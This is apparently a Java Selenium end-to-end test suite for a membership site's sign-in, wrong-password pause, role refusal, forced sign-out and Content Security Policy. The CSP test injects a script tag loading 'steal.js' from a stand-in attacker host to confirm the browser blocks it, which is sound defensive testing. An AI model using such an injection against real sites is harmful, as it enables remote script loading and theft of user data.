package org.guildhall.e2e;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Timestamp;
import java.time.Clock;
import java.time.Duration;

import org.guildhall.TestAccounts;
import org.guildhall.identity.AccountAdministrationService;
import org.guildhall.identity.AccountService;
import org.junit.jupiter.api.Test;
import org.guildhall.identity.Role;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.security.core.context.SecurityContextHolder;
import org.springframework.jdbc.core.JdbcTemplate;

import static org.assertj.core.api.Assertions.assertThat;

/** Sign-in, the pause after wrong passwords and role refusal as a person meets them in the browser. */
class BrowserJourneyTest extends BrowserTest {

    @Autowired AccountService accounts;
    @Autowired AccountAdministrationService administration;
    @Autowired JdbcTemplate jdbc;
    @Autowired Clock clock;

    @Test
    void a_demo_member_signs_in_and_sees_their_home_page() throws IOException {
        signIn("member@guildhall.example", DEMO_PASSWORD);

        var greeting = waitFor(By.id("home-greeting"));
        assertThat(greeting.getText()).isEqualTo("Welcome, Amara");
        assertThat(browser.findElement(By.id("panel-designations")).getText()).contains("36 CPD credits per cycle");
        assertThat(browser.findElements(By.id("panel-roles"))).isEmpty();
        screenshot("member-home.png");
    }

    @Test
    void a_wrong_password_shows_an_error_and_opens_no_session() {
        signIn("member@guildhall.example", "not-the-password");

        waitUntil(ExpectedConditions.attributeToBeNotEmpty(waitFor(By.id("login-form")), "error"));
        assertThat(browser.getCurrentUrl()).contains("/login?error");

        browser.get(url("/"));
        waitFor(By.id("login-form"));
        assertThat(browser.getCurrentUrl()).endsWith("/login");
        assertThat(browser.findElements(By.id("home-greeting"))).isEmpty();
    }

    @Test
    void wrong_passwords_pause_the_account_and_the_form_says_no_more_than_for_any_wrong_password() {
        String email = TestAccounts.uniqueEmail("paused");
        accounts.register("Lena Paused", email, TestAccounts.PASSWORD);
        for (int attempt = 0; attempt < 5; attempt++) {
            signIn(email, "wrong password " + attempt);
            waitUntil(ExpectedConditions.urlContains("/login?error"));
        }
        assertThat(jdbc.queryForObject("select failed_login_count from account where email = ?", Integer.class,
                email)).isEqualTo(5);
        // The fifth failure pauses sign-in for a second; hold the pause so the browser cannot outrun it.
        jdbc.update("update account set next_sign_in_at = ? where email = ?",
                Timestamp.from(clock.instant().plus(Duration.ofMinutes(5))), email);

        signIn(email, TestAccounts.PASSWORD);

        var form = waitFor(By.id("login-form"));
        waitUntil(ExpectedConditions.attributeToBeNotEmpty(form, "error"));
        assertThat(form.getText()).contains("Incorrect email or password", "pauses for a while")
                .doesNotContainIgnoringCase("locked");
        assertThat(browser.findElements(By.id("home-greeting"))).isEmpty();
    }

    @Test
    void a_member_who_types_a_staff_address_is_refused() {
        signIn("member@guildhall.example", DEMO_PASSWORD);
        waitFor(By.id("home-greeting"));

        browser.get(url("/admin/users"));

        assertThat(waitFor(By.id("access-denied")).getText()).contains("This page is not open to you");
        assertThat(browser.findElements(By.id("user-grid"))).isEmpty();
    }

    /** Issue 11: the open tab of a member an admin signed out everywhere lands on the sign-in page at its next step. */
    @Test
    void a_member_signed_out_everywhere_is_told_at_the_next_click_and_lands_on_the_sign_in_page() {
        signIn("member@guildhall.example", DEMO_PASSWORD);
        waitFor(By.id("home-greeting"));
        long member = accounts.findByEmail("member@guildhall.example").orElseThrow().id();
        TestAccounts.signInAs(TestAccounts.ADMIN, Role.ADMIN);
        try {
            administration.signOutEverywhere(member);
        } finally {
            SecurityContextHolder.clearContext();
        }

        // A click in the side menu is a Vaadin UI request: its session is gone, and the page says so.
        click(waitFor(By.cssSelector("vaadin-side-nav-item[path='inbox']")));
        var ended = waitFor(By.cssSelector(".v-system-error"));
        assertThat(ended.getText()).contains("Your session has ended").contains("sign in again");

        ended.click();
        waitFor(By.id("login-form"));
        assertThat(browser.getCurrentUrl()).endsWith("/login");
        browser.get(url("/"));
        waitFor(By.id("login-form"));
    }

    /** The policy is enforced, and a violation reaches the console, where every journey looks for one. */
    @Test
    void the_content_security_policy_blocks_a_script_from_another_origin_and_the_console_says_so() {
        signIn("member@guildhall.example", DEMO_PASSWORD);
        waitFor(By.id("home-greeting"));

        ((JavascriptExecutor) browser).executeScript("var script = document.createElement('script');"
                + "script.src = 'https://attacker.example/steal.js'; document.head.appendChild(script);");

        waitUntil(driver -> consoleMessages().stream().anyMatch(message -> message.contains("attacker.example")
                && message.toLowerCase().contains("content security policy")));
    }

    private static void screenshot(String name) throws IOException {
                Path target = Path.of("target", "screenshots", name);
        Files.createDirectories(target.getParent());
        Files.write(target, ((ChromeDriver) browser).getScreenshotAs(OutputType.BYTES));
    }
}
